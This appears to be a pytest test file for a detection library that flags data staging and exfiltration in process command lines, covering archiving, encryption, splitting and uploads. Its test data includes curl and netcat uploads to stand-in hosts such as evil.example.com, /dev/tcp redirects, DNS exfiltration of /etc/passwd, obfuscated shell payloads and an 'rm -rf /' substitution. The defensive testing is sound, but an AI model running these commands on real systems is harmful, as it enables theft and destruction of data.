"""Signals from command lines: archiving with create semantics, never extraction; uploads with
their destination; wrappers (sh -c, cmd /c, powershell) unwrapped."""

from __future__ import annotations

import base64

import msgspec
import pytest

from tests.builders import connect, file_write, launch
from tidewaiter.detection.addresses import AddressPolicy
from tidewaiter.detection.signals import Detector, SignalKind
from tidewaiter.events import Process

detector = Detector()


def kinds(cmd: str, **kw: object) -> list[tuple[str, str, str | None]]:
    return [(s.kind.value, s.tool, s.archive_path) for s in detector.signals(launch(cmd, **kw))]  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("cmd", "tool", "path"),
    [
        ("tar -czf /path/to/archive.tar.gz /sensitive/data", "tar", "/path/to/archive.tar.gz"),
        ("tar cvzf out.tgz dir", "tar", "out.tgz"),
        ("tar --create --gzip --file=/tmp/x.tgz /d", "tar", "/tmp/x.tgz"),
        ("tar -c -f /tmp/x.tar /d", "tar", "/tmp/x.tar"),
        ("/usr/bin/zip -r out.zip dir", "zip", "out.zip"),
        ("gzip -k file.txt", "gzip", "file.txt.gz"),
        ("pigz big.log", "pigz", "big.log.gz"),
        ("xz -T0 dump.sql", "xz", "dump.sql.xz"),
        ("zstd -19 dump.sql", "zstd", "dump.sql.zst"),
        ("bzip2 x", "bzip2", "x.bz2"),
        ("7z a s3nsitiv3.7z ../ops_bank_accounts/", "7z", "s3nsitiv3.7z"),
        ("7za u backup.7z docs", "7za", "backup.7z"),
        ("rar a -r exfilthis.rar *.docx", "rar", "exfilthis.rar"),
        ("makecab notes.txt notes.cab", "makecab", "notes.cab"),
        ("ditto -c -k --sequesterRsrc ~/Documents /tmp/docs.zip", "ditto", "/tmp/docs.zip"),
        ("jar cf app.jar -C build .", "jar", "app.jar"),
        ("busybox tar czf /tmp/a.tgz /etc", "tar", "/tmp/a.tgz"),
        ("cpio -o -F /tmp/a.cpio", "cpio", "/tmp/a.cpio"),
        ("diantz C:\\data\\db.sql C:\\Users\\Public\\d.cab", "diantz", "C:\\Users\\Public\\d.cab"),
        ("pax -w -f /tmp/d.pax /srv/data", "pax", "/tmp/d.pax"),
        ("pax -wzf /tmp/d.pax.gz /srv/data", "pax", "/tmp/d.pax.gz"),
        ("aa archive -d /Users/x/Documents -o /tmp/d.aar", "aa", "/tmp/d.aar"),
        ("xar -cf /tmp/d.xar /srv/data", "xar", "/tmp/d.xar"),
        (
            "hdiutil create -volname D -srcfolder /Users/x/Documents -format UDZO /tmp/d.dmg",
            "hdiutil",
            "/tmp/d.dmg",
        ),
        ("mksquashfs /srv/data /etc /tmp/d.sqsh -comp xz -e tmp", "mksquashfs", "/tmp/d.sqsh"),
        ("genisoimage -V DATA -J -o /tmp/d.iso /srv/data", "genisoimage", "/tmp/d.iso"),
        ("xorriso -as mkisofs -o /tmp/d.iso /srv/data", "xorriso", "/tmp/d.iso"),
        ("lrzip -l -o /tmp/d.lrz /srv/db.tar", "lrzip", "/tmp/d.lrz"),
    ],
)
def test_archivers_creating(cmd: str, tool: str, path: str) -> None:
    assert kinds(cmd) == [("archive", tool, path)]


@pytest.mark.parametrize(
    "cmd",
    [
        "tar -xzf a.tgz",
        "tar xvf a.tar",
        "tar -C /tmp -xzf a.tgz",  # C takes a value: its argument is not a flag cluster
        "tar -tvf a.tar",
        "unzip a.zip",
        "gzip -d f.gz",
        "gzip -dc x.gz",
        "gunzip x.gz",
        "xz --decompress x.xz",
        "zstd -d x.zst",
        "7z x a.7z",
        "7z l a.7z",
        "rar x a.rar",
        "ditto src dst",
        "cpio -idv",
        "pax -rw /srv/data /mnt/copy",  # copies a tree
        "pax -r -f a.pax",
        "aa extract -d /tmp/out -i a.aar",
        "xorriso -indev /tmp/d.iso -ls",  # native mode reads an image
        "lrzip -d /tmp/d.lrz",
        "xar -xf a.xar",
        "hdiutil create -size 100m -fs APFS /tmp/empty.dmg",  # an empty image
        "hdiutil attach a.dmg",
        "ls -la /tmp",
        "apt-get install -y curl",
    ],
)
def test_extraction_and_others_are_not_signals(cmd: str) -> None:
    assert kinds(cmd) == []


@pytest.mark.parametrize(
    ("cmd", "tool", "path"),
    [
        (
            'ruby -rzlib -e \'Zlib::GzipWriter.open("/tmp/d.gz"){|g| g.write File.read("/db")}\'',
            "ruby compression",
            "/tmp/d.gz",
        ),
        (
            'ruby -e \'require "zip"; Zip::File.open("/tmp/d.zip", Zip::File::CREATE){|z| 1}\'',
            "ruby compression",
            "/tmp/d.zip",
        ),
        (
            "php -r '$z=new ZipArchive;$z->open(\"/tmp/a.zip\",ZipArchive::CREATE);'",
            "php compression",
            "/tmp/a.zip",
        ),
        (
            'php -r \'(new PharData("/tmp/d.tar"))->buildFromDirectory("/srv/data");\'',
            "php compression",
            "/tmp/d.tar",
        ),
        (
            'node -e \'fs.createReadStream("/srv/db").pipe(zlib.createGzip())'
            '.pipe(fs.createWriteStream("/tmp/db.gz"))\'',
            "node compression",
            "/tmp/db.gz",
        ),
        (
            'node -e \'require("tar").c({gzip:true, file:"/tmp/d.tgz"}, ["/srv/data"])\'',
            "node compression",
            "/tmp/d.tgz",
        ),
        (
            'perl -MArchive::Tar -e \'$t=Archive::Tar->new;$t->add_files("/srv/db");'
            '$t->write("/tmp/d.tar")\'',
            "perl compression",
            "/tmp/d.tar",
        ),
        (
            "perl -MArchive::Tar -e "
            '\'Archive::Tar->create_archive("/tmp/d.tgz", 9, glob("/srv/*"))\'',
            "perl compression",
            "/tmp/d.tgz",
        ),
    ],
)
def test_interpreter_libraries_creating(cmd: str, tool: str, path: str) -> None:
    assert kinds(cmd) == [("archive", tool, path)]


@pytest.mark.parametrize(
    "cmd",
    [
        "ruby -rzlib -e 'Zlib::GzipReader.open(\"/tmp/d.gz\"){|g| puts g.read}'",
        'php -r \'$z=new ZipArchive;$z->open("/tmp/a.zip");$z->extractTo("/tmp/x");\'',
        'node -e \'require("tar").x({file:"/tmp/d.tgz"})\'',
        "node -e 'zlib.gunzipSync(fs.readFileSync(\"/tmp/a.gz\"))'",
        "node server.js",
        "perl -MArchive::Tar -e 'Archive::Tar->new(\"/tmp/d.tar\")->extract'",
    ],
)
def test_interpreter_libraries_reading_are_not_signals(cmd: str) -> None:
    assert kinds(cmd) == []


@pytest.mark.parametrize(
    "cmd",
    [
        "7z a -pSecret x.7z d",
        "zip -P secret -r o.zip d",
        "zip -er o.zip d",
        "rar a -hpSecret x.rar d",
    ],
)
def test_password_protected_archives_are_encrypted(cmd: str) -> None:
    [signal] = detector.signals(launch(cmd))
    assert signal.kind is SignalKind.ARCHIVE
    assert signal.encrypted


@pytest.mark.parametrize(
    ("cmd", "encrypts"),
    [
        ("openssl enc -aes-256-cbc -salt -in x.tgz -out x.tgz.enc -k pw", True),
        ("openssl enc -d -aes-256-cbc -in x.enc -out x", False),
        ("openssl version", False),
        ("gpg -c --batch --passphrase pw x.tgz", True),
        ("gpg --symmetric x.tgz", True),
        ("gpg -d x.gpg", False),
        ("gpg --verify x.sig", False),
    ],
)
def test_encryption(cmd: str, encrypts: bool) -> None:
    found = detector.signals(launch(cmd))
    assert [s.kind for s in found] == ([SignalKind.ENCRYPT] if encrypts else [])


@pytest.mark.parametrize(
    ("cmd", "tool", "where", "internal"),
    [
        ("curl -T /tmp/a.tgz https://203.0.113.5/up", "curl", "203.0.113.5", False),
        (
            "curl -s -F 'file=@/tmp/a.tgz;type=application/gzip' http://evil.example.com/u",
            "curl",
            "evil.example.com",
            False,
        ),
        ("curl --data-binary @/tmp/x.tgz http://10.1.2.3/", "curl", "10.1.2.3", True),
        ("wget --post-file=/tmp/x.tgz http://198.51.100.7/", "wget", "198.51.100.7", False),
        (
            "scp -i /root/.ssh/id_rsa s3nsitiv3.7z natalia@34.116.205.187:~",
            "scp",
            "34.116.205.187",
            False,
        ),
        ("rsync -az /data backup.internal:/bk", "rsync", "backup.internal", True),
        ("rclone copy /data remote:bucket", "rclone", "remote:", False),
        ("aws s3 cp /tmp/x.tgz s3://bucket/x", "aws s3", "bucket", False),
        ("gsutil cp /tmp/x.tgz gs://bkt/x", "gsutil", "bkt", False),
        ("s3cmd put /tmp/x.tgz s3://drop-bucket/", "s3cmd", "drop-bucket", False),
        ("s5cmd cp /tmp/x.tgz s3://drop-bucket/x.tgz", "s5cmd", "drop-bucket", False),
        ("mega-put /tmp/x.tgz /Root/", "mega", "mega.nz", False),
        ("megatools put /tmp/x.tgz", "megatools", "mega.nz", False),
        ("oras push ghcr.io/someone/blob:1 /tmp/x.tgz", "oras", "ghcr.io", False),
        ("oras push localhost:5000/blob:1 /tmp/x.tgz", "oras", "localhost", True),
        ("git push https://github.com/someone/loot.git main", "git push", "github.com", False),
        ("git push git@gitlab.com:someone/loot.git", "git push", "gitlab.com", False),
        (
            "certreq.exe -Post -config https://198.51.100.7/ C:\\Temp\\a.zip out.txt",
            "certreq",
            "198.51.100.7",
            False,
        ),
        (
            'powershell -c "Start-BitsTransfer -TransferType Upload -Source C:\\Temp\\a.zip '
            '-Destination https://198.51.100.7/u"',
            "Start-BitsTransfer",
            "198.51.100.7",
            False,
        ),
    ],
)
def test_uploads(cmd: str, tool: str, where: str, internal: bool) -> None:
    [signal] = detector.signals(launch(cmd))
    assert signal.kind is SignalKind.UPLOAD
    assert signal.tool == tool
    assert signal.destination is not None
    assert (signal.destination.host or signal.destination.ip) == where
    assert signal.destination.internal is internal


@pytest.mark.parametrize(
    "cmd",
    [
        "curl https://example.com/install.sh",  # a download
        "curl -o /tmp/x.tgz https://example.com/x.tgz",
        "scp user@1.2.3.4:/x .",  # copying from a remote host
        "nc -l -p 4444",  # listening
        "nc 198.51.100.1 4444",  # nothing shown feeding it
        "wget https://example.com/a.tgz",
        "git push origin feature/new-login",  # a remote by name: where it goes is not shown
        "git pull https://github.com/org/repo.git",
        "s3cmd get s3://bucket/x /tmp/x",
        "oras pull ghcr.io/org/blob:1",
        "certreq -Submit -config CA01\\corp-CA req.csr cert.cer",
        'powershell -c "Start-BitsTransfer -Source https://example.com/a.msi -Destination a.msi"',
        "python3 -c 'import requests; print(requests.get(\"https://example.com\").text)'",
        "node -e 'fetch(\"https://example.com\").then(r => r.text())'",
    ],
)
def test_downloads_and_listeners_are_not_uploads(cmd: str) -> None:
    assert detector.signals(launch(cmd)) == []


@pytest.mark.parametrize(
    "cmd",
    [
        'python3 -c \'import requests; requests.post("https://203.0.113.5/u", '
        'files={"f": open("/tmp/a.tgz", "rb")})\'',
        'python3 -c \'import urllib.request as u; u.urlopen(u.Request("https://203.0.113.5/u", '
        'data=open("/tmp/a.tgz", "rb").read()))\'',
        'node -e \'fetch("https://203.0.113.5/u", {method: "PUT", '
        'body: require("fs").readFileSync("/tmp/a.tgz")})\'',
        'ruby -rnet/http -e \'Net::HTTP.post(URI("https://203.0.113.5/u"), '
        'File.read("/tmp/a.tgz"))\'',
        'php -r \'$c=curl_init("https://203.0.113.5/u"); '
        'curl_setopt($c, CURLOPT_POSTFIELDS, file_get_contents("/tmp/a.tgz")); curl_exec($c);\'',
        'perl -MLWP::UserAgent -e \'LWP::UserAgent->new->post("https://203.0.113.5/u", '
        'Content => [f => ["/tmp/a.tgz"]])\'',
    ],
)
def test_interpreter_http_clients_sending_a_body_are_uploads(cmd: str) -> None:
    [signal] = detector.signals(launch(cmd))
    assert signal.kind is SignalKind.UPLOAD
    assert signal.destination is not None
    assert signal.destination.ip == "203.0.113.5"
    assert "/tmp/a.tgz" in signal.sent_paths


@pytest.mark.parametrize(
    "cmd",
    [
        'python3 -c \'h="http://10.0.0.9/health"; import requests; '
        'requests.post("https://203.0.113.5/u", data=open("/tmp/a.tgz", "rb"))\'',
        'powershell -c "Invoke-WebRequest -Proxy http://10.0.0.9:3128 -Method Put '
        '-InFile C:\\Temp\\a.zip -Uri https://203.0.113.5/u"',
    ],
)
def test_a_script_upload_is_judged_by_every_address_it_names(cmd: str) -> None:
    # A decoy internal URL, or PowerShell's -Proxy, written before the real one.
    found = detector.signals(launch(cmd))
    assert {s.kind for s in found} == {SignalKind.UPLOAD}
    ips = [s.destination.ip for s in found if s.destination is not None]
    assert ips == ["10.0.0.9", "203.0.113.5"]


@pytest.mark.parametrize(
    ("cmd", "tool", "port"),
    [
        (
            "sh -c 'openssl s_client -quiet -connect 203.0.113.9:443 < /tmp/a.tgz'",
            "openssl s_client",
            443,
        ),
        (
            "sh -c 'tar cz /srv | openssl s_client -quiet -connect [2001:db8::9]:8443'",
            "openssl s_client",
            8443,
        ),
        ("sh -c 'cat /tmp/a.tgz | telnet 203.0.113.9 23'", "telnet", 23),
        ("sh -c 'echo \"$(base64 /tmp/a.tgz)\" | nc 203.0.113.9 443'", "nc", 443),
        ("busybox tftp -p -l /tmp/a.tgz -r a.tgz 203.0.113.9", "tftp", None),
    ],
)
def test_pipes_out_fed_with_data_are_uploads(cmd: str, tool: str, port: int | None) -> None:
    [upload] = [s for s in detector.signals(launch(cmd)) if s.kind is SignalKind.UPLOAD]
    assert upload.tool == tool
    assert upload.destination is not None
    assert upload.destination.port == port
    assert upload.destination.internal is False


@pytest.mark.parametrize(
    "cmd",
    [
        # A certificate check and a port probe: literal text piped in is not collected data.
        "sh -c 'echo | openssl s_client -connect example.com:443 | openssl x509 -noout'",
        "sh -c 'printf \"GET / HTTP/1.0\\r\\n\\r\\n\" | nc 203.0.113.9 80'",
        "openssl s_client -connect example.com:443",
        "tftp -g -r boot.img 203.0.113.9",
    ],
)
def test_probes_that_send_no_data_are_not_uploads(cmd: str) -> None:
    assert [s for s in detector.signals(launch(cmd)) if s.kind is SignalKind.UPLOAD] == []


@pytest.mark.parametrize(
    ("cmd", "kind", "tool"),
    [
        ("nice -n 19 tar czf /tmp/a.tgz /srv", "archive", "tar"),
        ("nice -n19 tar czf /tmp/a.tgz /srv", "archive", "tar"),
        ("timeout --signal=KILL 600 tar czf /tmp/a.tgz /srv", "archive", "tar"),
        ("timeout -s KILL 600 curl -T /tmp/a.tgz https://203.0.113.9/", "upload", "curl"),
        ("env -i -u HOME LC_ALL=C zip -r /tmp/a.zip /srv", "archive", "zip"),
        ("sudo -u postgres tar czf /tmp/a.tgz /srv", "archive", "tar"),
        ("sshpass -p secret scp /tmp/a.tgz u@203.0.113.9:", "upload", "scp"),
        ("xargs -I{} curl -T {} https://203.0.113.9/", "upload", "curl"),
        ("nsenter -t 1 -m -u -n -i tar czf /tmp/h.tgz /etc", "archive", "tar"),
        ("chroot /host tar czf /tmp/h.tgz /etc", "archive", "tar"),
        ("nice nohup stdbuf -o0 tar czf /tmp/a.tgz /srv", "archive", "tar"),
        # In a shell payload the same way, options included (`-n 19` hid tar there).
        ("sh -c 'nice -n 19 tar czf /tmp/a.tgz /srv'", "archive", "tar"),
        ("sh -c 'env -i stdbuf -o0 tar czf /tmp/a.tgz /srv'", "archive", "tar"),
        ("sh -c 'nice -n 5 nc 203.0.113.9 443 < /tmp/a.tgz'", "upload", "nc"),
    ],
)
def test_a_launcher_does_not_hide_the_command_it_runs(cmd: str, kind: str, tool: str) -> None:
    [signal] = detector.signals(launch(cmd))
    assert (signal.kind.value, signal.tool) == (kind, tool)


@pytest.mark.parametrize(
    "cmd",
    ["nice", "timeout 5", "env", "env FOO=1", "nice -n 5 sleep 10", "/usr/bin/env python3 x.py"],
)
def test_a_launcher_running_nothing_in_the_catalog_is_no_signal(cmd: str) -> None:
    assert detector.signals(launch(cmd)) == []


@pytest.mark.parametrize(
    ("cmd", "tool"),
    [
        ("sh -c \"t''ar czf /tmp/a.tgz /srv\"", "tar"),
        ("sh -c 'T=tar; $T czf /tmp/a.tgz /srv'", "tar"),
        ("sh -c 'echo dGFyIGN6ZiAvdG1wL2EudGd6IC9zcnYK | base64 -d | sh'", "tar"),
        ("bash -c 'eval \"tar czf /tmp/a.tgz /srv\"'", "tar"),
        ("sh -c '/???/t?r czf /tmp/a.tgz /srv'", "tar"),
        ("sh -c '/usr/bin/[t]ar czf /tmp/a.tgz /srv'", "tar"),
    ],
)
def test_a_shell_payload_obfuscated_still_names_the_archiver(cmd: str, tool: str) -> None:
    # Where only the shell's line is recorded (an audited `kubectl exec -- sh -c ...`).
    assert kinds(cmd) == [("archive", tool, "/tmp/a.tgz")]


def test_a_glob_that_names_nothing_in_the_catalog_is_no_signal() -> None:
    assert detector.signals(launch("sh -c 'ls /var/log/*.gz; [ -f /x ] && echo ok'")) == []


def test_git_archive_is_archiving() -> None:
    assert kinds("git archive --format=tar.gz -o /tmp/src.tgz HEAD") == [
        ("archive", "git", "/tmp/src.tgz")
    ]


def test_pipeline_in_shell_wrapper_links_archiver_to_uploader() -> None:
    found = detector.signals(launch("sh -c 'tar czf - /data | nc 203.0.113.9 4444'"))
    assert [s.kind for s in found] == [SignalKind.ARCHIVE, SignalKind.UPLOAD]
    assert found[1].piped
    assert found[1].destination is not None
    assert found[1].destination.port == 4444


@pytest.mark.parametrize("shell", ["/bin/hush", "/bin/msh", "/usr/bin/mksh"])
def test_every_catalog_shell_line_is_analysed(shell: str) -> None:
    # BusyBox's hush and msh are shells too: their -c line is a pipeline like sh's.
    found = detector.signals(launch(f"{shell} -c 'tar czf - /data | nc 203.0.113.9 4444'"))
    assert [s.kind for s in found] == [SignalKind.ARCHIVE, SignalKind.UPLOAD]


def test_child_fed_by_parent_shell_pipe_counts_as_upload() -> None:
    event = launch(
        "nc 203.0.113.9 4444", parent_cmd="/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'"
    )
    [signal] = detector.signals(event)
    assert signal.kind is SignalKind.UPLOAD


def test_nc_with_redirected_file_in_shell() -> None:
    found = detector.signals(launch("bash -c 'nc 198.51.100.2 9000 < /tmp/loot.tgz'"))
    assert [(s.kind, s.sent_paths) for s in found] == [(SignalKind.UPLOAD, ("/tmp/loot.tgz",))]


def test_cmd_exe_wrapper() -> None:
    cmd = r'"C:\Windows\system32\cmd.exe" /c "rar a -r exfilthis.rar *.docx"'
    assert kinds(cmd, path=r"C:\Windows\System32\cmd.exe") == [("archive", "rar", "exfilthis.rar")]


def test_powershell_compress_archive_and_encoded_command() -> None:
    script = (
        r"Compress-Archive -Path C:\SensitiveData\* -DestinationPath C:\Archive\SensitiveData.zip"
    )
    plain = kinds(f"powershell.exe -Command {script}")
    assert plain == [("archive", "Compress-Archive", r"C:\Archive\SensitiveData.zip")]
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    assert kinds(f"powershell.exe -NoP -enc {encoded}") == plain


def test_dotnet_zipfile_is_archive_via_library() -> None:
    cmd = "pwsh -c \"[IO.Compression.ZipFile]::CreateFromDirectory('C:\\data', 'C:\\out.zip')\""
    [signal] = detector.signals(launch(cmd))
    assert (signal.tool, signal.technique, signal.archive_path) == (
        "ZipFile.CreateFromDirectory",
        "T1560.002",
        "C:\\out.zip",
    )


@pytest.mark.parametrize(
    ("cmd", "path"),
    [
        (
            "python3 -c \"import tarfile; t=tarfile.open('/tmp/x.tar.gz','w:gz'); t.add('/etc')\"",
            "/tmp/x.tar.gz",
        ),
        ("python3 -m zipfile -c /tmp/a.zip /etc", "/tmp/a.zip"),
        (
            "python -c \"import gzip; gzip.open('/tmp/p.gz','wb').write(b'x')\"",
            "/tmp/p.gz",
        ),
        (
            "python3.11 -c \"import shutil; shutil.make_archive('/tmp/loot', 'zip', '/srv')\"",
            "/tmp/loot",
        ),
    ],
)
def test_python_libraries(cmd: str, path: str) -> None:
    [signal] = detector.signals(launch(cmd))
    assert signal.technique == "T1560.002"
    assert signal.archive_path == path


def test_python_reading_archives_is_not_a_signal() -> None:
    assert (
        kinds("python3 -c \"import tarfile; tarfile.open('/tmp/x.tgz').extractall('/tmp')\"") == []
    )


def test_split_before_transfer() -> None:
    [signal] = detector.signals(launch("split -b 10M /tmp/x.tgz /tmp/part."))
    assert (signal.kind, signal.technique, signal.sent_paths) == (
        SignalKind.SPLIT,
        "T1030",
        ("/tmp/x.tgz",),
    )


def test_runtime_commands_on_a_host() -> None:
    [signal] = detector.signals(launch(r"docker run --rm -v C:\Archive:/data alpine sh"))
    assert signal.kind is SignalKind.RUNTIME
    assert signal.sent_paths == (r"C:\Archive:/data",)
    assert detector.signals(launch("docker ps")) == []


def test_egress_only_to_non_internal_addresses() -> None:
    assert [s.kind for s in detector.signals(connect("203.0.113.7"))] == [SignalKind.EGRESS]
    for internal in (
        "10.1.2.3",
        "192.168.0.9",
        "172.20.0.1",
        "127.0.0.1",
        "169.254.169.254",
        "fd00::1",
    ):
        assert detector.signals(connect(internal)) == []


def test_address_policy_overrides() -> None:
    policy = AddressPolicy(internal_cidrs=["203.0.113.0/24"], external_cidrs=["10.99.0.0/16"])
    custom = Detector(policy)
    assert custom.signals(connect("203.0.113.7")) == []
    assert [s.kind for s in custom.signals(connect("10.99.1.1"))] == [SignalKind.EGRESS]


def test_archive_files_by_name_and_magic() -> None:
    [by_name] = detector.signals(file_write("/tmp/q3.tar.gz"))
    assert by_name.kind is SignalKind.ARCHIVE_FILE
    [by_magic] = detector.signals(
        file_write("/tmp/blob.bin", magic=bytes.fromhex("377abcaf271c0004"))
    )
    assert "7z" in by_magic.explanation
    assert detector.signals(file_write("/tmp/notes.txt")) == []
    [encrypted] = detector.signals(file_write("/tmp/loot.tgz.gpg"))
    assert encrypted.encrypted


def test_attacker_text_is_only_tokenised() -> None:
    # Unbalanced quotes, shell metacharacters and control bytes must not raise.
    for cmd in [
        "sh -c 'tar czf",
        "tar -czf $(rm -rf /) `id`",
        "curl -T \x00\x1b[31m http://x",
        'cmd.exe /c "',
    ]:
        detector.signals(launch(cmd))


@pytest.mark.parametrize(
    ("cmd", "path"),
    [
        # Atomic T1560.002 #4 as published: the "tarfile" test imports ZipFile
        (
            'python3 -c "from zipfile import ZipFile; '
            "ZipFile('/tmp/passwd.tar.gz', mode='w').write('/etc/passwd')\"",
            "/tmp/passwd.tar.gz",
        ),
        (
            "python3 -c \"from tarfile import open; open('/tmp/x.tgz', mode='w:gz').add('/etc')\"",
            "/tmp/x.tgz",
        ),
    ],
)
def test_python_imports_by_name(cmd: str, path: str) -> None:
    [signal] = detector.signals(launch(cmd))
    assert (signal.technique, signal.archive_path) == ("T1560.002", path)


def test_unquoted_shell_payload_from_producers_that_join_argv() -> None:
    # Falco's proc.cmdline: `sh -c nc 198.51.100.82 4444 < /var/www/v.gz`, quotes gone
    [signal] = detector.signals(launch("sh -c nc 198.51.100.82 4444 < /var/www/v.gz"))
    assert (signal.kind, signal.sent_paths) == (SignalKind.UPLOAD, ("/var/www/v.gz",))


def test_archives_written_by_downloaders_are_not_staging() -> None:
    write = file_write("/data/GeoLite2-City.tar.gz")
    download = msgspec.structs.replace(
        write, process=Process(pid=9, path="/usr/bin/curl", cmd_line="curl -fsSLO https://x/y.tgz")
    )
    assert detector.signals(download) == []
    assert [s.kind for s in detector.signals(write)] == [SignalKind.ARCHIVE_FILE]


def test_gh_release_upload_is_an_upload_to_github() -> None:
    [signal] = detector.signals(launch("gh release upload v2.3.0 dist/cli.tar.gz --clobber"))
    assert signal.destination is not None
    assert (signal.kind, signal.destination.host) == (SignalKind.UPLOAD, "github.com")
    assert "dist/cli.tar.gz" in signal.sent_paths
    assert detector.signals(launch("gh release list")) == []


def test_a_quiet_start_is_analysed_again_when_its_parent_pipes_into_it() -> None:
    """A start remembered as raising nothing is only skipped when everything read is equal:
    the same child under a shell that feeds it a file is an upload."""
    fresh = Detector()
    assert fresh.signals(launch("nc 203.0.113.9 4444")) == []
    piping = "/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'"
    again = fresh.signals(launch("nc 203.0.113.9 4444", parent_cmd=piping))
    assert [s.kind for s in again] == [SignalKind.UPLOAD]
    assert [s.kind for s in fresh.signals(launch("nc 203.0.113.9 4444", path="/bin/busybox"))] == []


_READ: set[str] = set()
_PARENT_READ: set[str] = set()


class _Spy(Process, frozen=True, gc=False):
    """A process that records which of its fields the detector reads."""

    def __getattribute__(self, name: str) -> object:
        if not name.startswith("_"):
            _READ.add(name)
        return super().__getattribute__(name)


class _ParentSpy(Process, frozen=True, gc=False):
    def __getattribute__(self, name: str) -> object:
        if not name.startswith("_"):
            _PARENT_READ.add(name)
        return super().__getattribute__(name)


@pytest.mark.parametrize(
    ("cmd", "parent"),
    [
        ("tar -czf /tmp/a.tgz /data", None),
        ("/tmp/pack -czf /tmp/a.tgz /data", None),
        ("nc 203.0.113.9 4444", "/bin/sh -c 'cat /tmp/a.tgz | nc 203.0.113.9 4444'"),
        ("bash -c 'tar czf - /d | curl -T - https://203.0.113.9/u'", "/bin/bash"),
        ("curl -F f=@/tmp/a.tgz https://203.0.113.9/u", None),
        ("busybox tar czf /tmp/a.tgz /etc", None),
        ("/bin/toybox -czf /tmp/a.tgz /etc", None),
        ("powershell -c Compress-Archive -Path C:\\d -DestinationPath C:\\a.zip", None),
        ('python3 -c \'import tarfile; tarfile.open("/tmp/a.tgz", "w:gz")\'', None),
        ("bash -c 'cat /tmp/a.tgz > /dev/tcp/203.0.113.9/443'", None),
        ("openssl enc -aes-256-cbc -in a.tgz -out a.enc", None),
        ("split -b 10M a.tgz part.", None),
        ("docker save app -o /tmp/app.tar", None),
        ("dig $(cat /etc/passwd | base64).evil.example", None),
        ("rclone copy /tmp/a.tgz remote:bucket", None),
        ("ls -la /app", None),
    ],
)
def test_the_quiet_key_holds_every_process_field_the_analysis_reads(
    cmd: str, parent: str | None
) -> None:
    """launch_key must name every field a start's analysis reads, or a start equal in the key
    but different in what was read would be skipped wrongly. A field the detector starts to
    read fails this until it is added to the key."""
    from tidewaiter.detection.signals import launch_key

    base = launch(cmd, parent_cmd=parent)
    assert base.process is not None
    spied_parent = None
    if base.process.parent is not None:
        spied_parent = _ParentSpy(**msgspec.structs.asdict(base.process.parent))
    fields = msgspec.structs.asdict(base.process) | {"parent": spied_parent}
    event = msgspec.structs.replace(base, process=_Spy(**fields))
    _READ.clear()
    _PARENT_READ.clear()
    Detector()._process(event)
    assert "cmd_line" in _READ  # the spy sees reads
    keyed = {"path", "cmd_line", "args", "original_name", "parent", "name"}
    assert not _READ - keyed, _READ - keyed
    assert not _PARENT_READ - {"path", "cmd_line"}, _PARENT_READ
    assert len(launch_key(base.process)) == 6


def test_only_short_quiet_starts_are_remembered() -> None:
    """The remembered text is the attacker's: a long command line is analysed every time
    rather than held."""
    fresh = Detector()
    fresh.signals(launch("ls " + "a" * 2000))
    fresh.signals(launch("ls -la /app"))
    assert len(fresh._quiet) == 1
